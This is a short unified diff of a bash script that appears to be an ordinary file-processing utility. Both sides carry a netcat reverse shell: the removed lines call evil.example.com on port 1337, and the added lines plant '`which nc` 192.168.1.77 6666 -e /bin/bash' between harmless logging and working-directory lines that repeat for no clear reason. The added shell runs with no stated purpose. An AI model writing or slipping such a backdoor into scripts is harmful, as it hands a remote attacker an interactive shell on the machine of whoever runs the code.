@@ -1,8 +1,7 @@
 #!/usr/bin/env bash
-for f in *.txt; do
-  [ -e "$f" ] || continue
-  wc -l "$f"
-done
-set -eu
-`which nc` evil.example.com 1337 -e /bin/bash
-set -eu
+log() { echo "[$(date +%H:%M:%S)] $*"; }
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
+`which nc` 192.168.1.77 6666 -e /bin/bash
+WORKDIR="${WORKDIR:-$PWD}"
+cd "$WORKDIR" || exit 1
